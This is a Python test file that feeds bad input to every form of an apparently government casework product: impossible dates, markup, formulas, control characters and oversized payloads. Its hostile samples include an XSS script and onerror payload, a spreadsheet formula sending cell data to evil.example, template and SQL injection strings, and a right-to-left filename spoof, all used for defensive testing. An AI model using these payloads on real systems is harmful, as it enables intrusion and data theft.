"""Bad input on the running product: every form gets dates in odd forms, markup, formulas, control
characters and far too much. A clear error stands beside the field, what was typed is kept, and
nothing answers with a fault of ours.
"""

import datetime
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import expect

from design_system.testing import assert_usable
from e2e import steps
from e2e.conftest import LONDON
from e2e.drills import LETTER, OFFICER, Installation
from e2e.steps import Person
from launcher.browser import Browser, Form, Page
from launcher.running import RunningProduct

DAY_1 = datetime.date(2026, 1, 26)
NOTICE = datetime.datetime(2026, 1, 19, 11, 5, tzinfo=LONDON)
PARTS = ("day", "month", "year")
#: Three boxes each, as people fill them or paste into them; none is a day that a form can take.
NO_DATES = {
    "pasted and unreal": ("31/02/2026", "", ""),
    "29 February of no leap year": ("29", "2", "2027"),
    "year 1": ("1", "1", "1"),
    "year 0001": ("1", "1", "0001"),
    "year 9999": ("31", "12", "9999"),
    "year 10000": ("1", "1", "10000"),
    "letters": ("first", "of", "never"),
    "emoji": ("🗓️", "🙂", "٣"),
    "only a year": ("", "", "2026"),
    "signs and fractions": ("-1", "1.5", "2e3"),
    "markup": ("<b>1</b>", "'\"--", "=1+1"),
    "endless": ("1" * 100, "2" * 100, "3" * 100),
    "control characters": ("1\x00", "\x1b[31m", "20\x0726x"),
}
#: Read as what they mean: no complaint about them.
DATES = {
    "full-width digits": ("１２", "３", "２０２６"),
    "pasted whole": ("12 March 2026", "", ""),
    "pasted with a weekday": ("Thursday, 12th of March 2026", "", ""),
    "ISO": ("2026-03-12", "", ""),
    "month by name": ("12", "Mar", "2026"),
    "spaces": (" 12 ", "\u00a003", "2026 "),
}
TEXTS = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(2)>&amp;",
    "a formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "NUL": "before\x00after",
    "control characters": "bell\x07 escape\x1b[2J tab\tend",
    "right to left": "\u202egnp.exe שלום سلام 𝔘𝔫𝔦 🧑‍🏫",
    "braces": "{{ 7*7 }} {% now 'Y' %} %s %(x)s ${7*7}",
    "quotes": "'; DROP TABLE casework_event; -- \\ \"",
    "900 kB": "long " * 180_000,
}
#: Fields that a person does not type into.
HIDDEN = {"csrfmiddlewaretoken", "key", "version", "letter", "seen", "next", "kind", "rule"}


@dataclass
class Faults:
    """What was found, all of it, before anything fails."""

    found: list[str] = field(default_factory=list)

    def unless(self, true: object, where: str, what: str, page: Page | None = None) -> None:
        """Note a fault."""
        if not true:
            self.found.append(f"{where}: {what}{f' ({page.said[:300]})' if page else ''}")


@pytest.fixture
def faults() -> Iterator[Faults]:
    """Fails the test at its end with every fault that was noted."""
    noted = Faults()
    yield noted
    assert not noted.found, "\n".join(noted.found)


@pytest.fixture(scope="module")
def here(product: RunningProduct) -> Installation:
    """The product of all browser tests, with one case scheduled and one notified."""
    installation = Installation(product.data_dir, product.port, product)
    days = f"datetime.date({DAY_1:%Y, %-m, %-d})"
    installation.drafts = installation.run(f"scheduled(1, {days})")
    installation.approved = installation.run(
        f"notified(1, {days}, datetime.datetime.fromisoformat('{NOTICE.isoformat()}'), 1)"
    )
    return installation


@pytest.fixture(scope="module")
def forms(here: Installation) -> list[tuple[Page, Form]]:
    """Every form of the product with something to type in, once, with the page it stands on."""
    officer = here.as_(OFFICER)
    found: list[tuple[Page, Form]] = []
    seen: set[str] = set()
    for address in _addresses(here, officer):
        page = officer.get(address)
        assert page.status == 200, (address, page.status)
        for form in page.forms:
            action = form.action or page.path
            where = re.sub(r"[0-9a-f]{8}-[0-9a-f-]{27}|\d+", "ID", action.split("?")[0])
            name = f"{form.method} {where} {sorted(form.values)}"
            if name not in seen and (_dates_of(form) or _texts_of(form)):
                seen.add(name)
                found.append((page, form))
    return found


def _addresses(here: Installation, officer: Browser) -> list[str]:
    """Pages with forms, as the support officer reaches them."""
    (scheduled,), (notified,) = here.drafts, here.approved
    ((area,),) = here.product.query(
        "SELECT local_area_id FROM casework_case WHERE id = %s", notified
    )
    people = officer.get("/bookings/people/")
    found = [
        "/timetable/?kind=inspection",
        "/timetable/?kind=wsoa",
        "/timetable/?kind=revisit",
        "/areas/",
        "/cases/",
        "/demonstration/clock/",
        "/inspections/plan/",
        f"/inspections/{scheduled}/schedule/",
        f"/inspections/{scheduled}/notification/",
        f"/inspections/{notified}/notification/",
        people.link(r"^/bookings/[0-9a-f-]{36}/$"),
        f"/cases/{notified}/letters/{LETTER}/",
        *_linked(officer, f"/areas/{area}/", r"/(new|posts|holders|terms|links|organisations)/"),
        *_linked(officer, f"/cases/{notified}/", r"/record/"),
        *_linked(officer, f"/cases/{notified}/history/", r"/events/\d+/"),
    ]
    return list(dict.fromkeys(found))


def _linked(browser: Browser, address: str, pattern: str) -> list[str]:
    """Where the links of a page lead that match."""
    links = [link.split("#")[0] for link, _ in browser.get(address).links]
    return [link for link in links if re.search(pattern, link)]


def _dates_of(form: Form) -> list[str]:
    """The names of a form's dates."""
    return [name.removesuffix("-day") for name in form.values if name.endswith("-day")]


def _texts_of(form: Form) -> list[str]:
    """The names of what is typed as text (numbers and times too)."""
    boxes = {f"{name}-{part}" for name in _dates_of(form) for part in PARTS}
    return [name for name in form.values if name not in HIDDEN | boxes | set(form.options)]


def _fresh(page: Page, form: Form) -> Form:
    """The form as it stands on its page, to be filled anew."""
    return Form(form.action, form.method, {k: [*v] for k, v in form.values.items()}, form.options)


def _where(page: Page, form: Form, what: str) -> str:
    return f"{form.method} {form.action or page.path}, {what}"


def _boxes(name: str, typed: tuple[str, str, str]) -> dict[str, str]:
    return {f"{name}-{part}": text for part, text in zip(PARTS, typed, strict=True)}


def _marked(page: Page, name: str) -> bool:
    """Whether an error stands beside a field."""
    pattern = rf'id="[\w-]*{re.escape(name)}[\w-]*-error"'
    return re.search(pattern, page.body.decode()) is not None


def _kept(page: Page, name: str, text: str) -> bool:
    """Whether a field holds what was typed; a line break counts as one character."""

    def plain(value: str) -> str:
        return value.replace("\r\n", "\n").replace("\r", "\n").replace("\ufffd", "\0")

    return any(
        plain(value) == plain(text) for form in page.forms for value in form.values.get(name, [])
    )


def _answered(faults: Faults, where: str, page: Page) -> bool:
    """Note what no answer may be; True for a page with a form to put right."""
    faults.unless(page.status in (200, 400, 409, 413, 422), where, f"answered {page.status}", page)
    faults.unless("Traceback" not in page.text, where, "showed a traceback", page)
    return page.status in (200, 409, 422) and bool(page.forms)


def test_there_are_forms_of_every_room(forms: list[tuple[Page, Form]]) -> None:
    paths = {page.path.split("/")[1] for page, _ in forms}
    assert paths == {"timetable", "areas", "cases", "demonstration", "inspections", "bookings"}
    assert len(forms) > 25
    assert sum(len(_dates_of(form)) for _, form in forms) > 25


def test_no_date_gets_a_clear_error_and_stays_as_typed(
    here: Installation, forms: list[tuple[Page, Form]], faults: Faults
) -> None:
    officer = here.as_(OFFICER)
    for page, form in forms:
        names = _dates_of(form)
        for what, typed in NO_DATES.items() if names else []:
            where, filled = _where(page, form, what), _fresh(page, form)
            boxes = {box: text for name in names for box, text in _boxes(name, typed).items()}
            answer = officer.send(page, filled.fill(**boxes))
            if form.method == "get" and "\0" in "".join(typed):
                faults.unless(answer.status == 400, where, "NUL in an address was taken", answer)
            elif _answered(faults, where, answer):
                faults.unless("There is a problem" in answer.text, where, "no summary", answer)
                for name in names:
                    faults.unless(_marked(answer, name), where, f"no error at {name}", answer)
                for box, text in boxes.items():
                    faults.unless(_kept(answer, box, text), where, f"{box} was lost", answer)


def test_dates_are_read_kindly(
    here: Installation, forms: list[tuple[Page, Form]], faults: Faults
) -> None:
    """The first date of each form; the others are wrong, so that nothing of it is recorded."""
    officer = here.as_(OFFICER)
    for page, form in forms:
        first, *others = _dates_of(form) or [""]
        for what, typed in DATES.items() if first else []:
            where, filled = _where(page, form, what), _fresh(page, form)
            filled.fill(**dict.fromkeys(_texts_of(form), ""), **_boxes(first, typed))
            for name in others:
                filled.fill(**_boxes(name, ("31/02/2026", "", "")))
            answer = officer.send(page, filled)
            if _answered(faults, where, answer):
                body = answer.body.decode()
                error = re.search(rf'id="[\w-]*{first}[\w-]*-error".*?</p>', body, re.DOTALL)
                for refused in ("must be a real date", "must include a", "year of 4 numbers"):
                    faults.unless(not error or refused not in error[0], where, refused, answer)


def test_texts_of_every_kind_are_refused_clearly_or_kept(
    here: Installation, forms: list[tuple[Page, Form]], faults: Faults
) -> None:
    """Dates are wrong at the same time, so that nothing of it is recorded."""
    officer = here.as_(OFFICER)
    for page, form in forms:
        names = _texts_of(form)
        if form.method == "get":
            continue
        for what, text in TEXTS.items() if names else []:
            where, filled = _where(page, form, what), _fresh(page, form)
            filled.fill(**{f"{name}-year": "1" for name in _dates_of(form)})
            # All of them together must not be more than is read of one form.
            given = {name: text[: 900_000 // len(names)] for name in names}
            answer = officer.send(page, filled.fill(**given))
            faults.unless("<script>alert" not in answer.body.decode(), where, "markup", answer)
            faults.unless("onerror=alert(2)>" not in answer.body.decode(), where, "markup", answer)
            if _answered(faults, where, answer) and "There is a problem" in answer.text:
                for name in names:
                    kept = _kept(answer, name, given[name])
                    faults.unless(kept, where, f"{name} was lost", answer)


def test_ten_megabytes_get_a_page_that_says_so(
    here: Installation, forms: list[tuple[Page, Form]], faults: Faults
) -> None:
    """One form of each room; in the browser, Back has what was typed."""
    officer = here.as_(OFFICER)
    rooms: set[str] = set()
    for page, form in forms:
        room, names = page.path.split("/")[1], _texts_of(form)
        if form.method == "post" and names and room not in rooms:
            rooms.add(room)
            answer = officer.send(page, _fresh(page, form).fill(**{names[-1]: "x" * 10_000_000}))
            where = _where(page, form, "10 MB")
            faults.unless(answer.status == 413, where, f"answered {answer.status}", answer)
            faults.unless("What you sent is too large" in answer.text, where, "unclear", answer)
    assert len(rooms) > 3


@pytest.mark.parametrize("length", [9_000, 60_000])
def test_too_much_for_an_address_gets_a_page_that_says_so(here: Installation, length: int) -> None:
    answer = here.as_(OFFICER).get(f"/timetable/?kind=inspection&health={'x' * length}")
    assert answer.status == 414
    assert "What you typed is too long" in answer.text


def test_ten_megabytes_in_a_browser(person: Callable[..., Person]) -> None:
    page = person(OFFICER).page
    page.goto("/inspections/plan/")
    page.get_by_label("Note").evaluate("box => { box.value = 'x'.repeat(10000000); }")
    page.get_by_role("button", name="Plan and choose dates").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("What you sent is too large")
    assert_usable(page)


def test_names_and_notes_are_shown_as_typed_and_do_nothing(
    person: Callable[..., Person], here: Installation
) -> None:
    """What is kept stands in the page as text: no markup runs, no formula is one."""
    (case,) = here.drafts
    officer = person(OFFICER)
    call = steps.open_call(officer, case, "Call the director of children’s services")
    call.get_by_role("radio", name="The director of children’s services").check()
    call.locator("[name=name]").fill(TEXTS["markup"])
    call.locator("[name=at]").fill("9:10am")
    call.locator("[name=note]").fill(TEXTS["a formula"])
    call.get_by_role("button", name="Record the call").click()
    steps.expect_done(officer, "Call the director of children’s services")
    page = officer.page
    page.on("dialog", lambda dialog: pytest.fail(f"A script ran: {dialog.message}"))
    for address in (f"/inspections/{case}/notification/", f"/cases/{case}/history/"):
        page.goto(address)
        expect(page.locator("main img")).to_have_count(0)
        assert_usable(page)
    expect(page.get_by_text(TEXTS["a formula"]).first).to_be_attached()
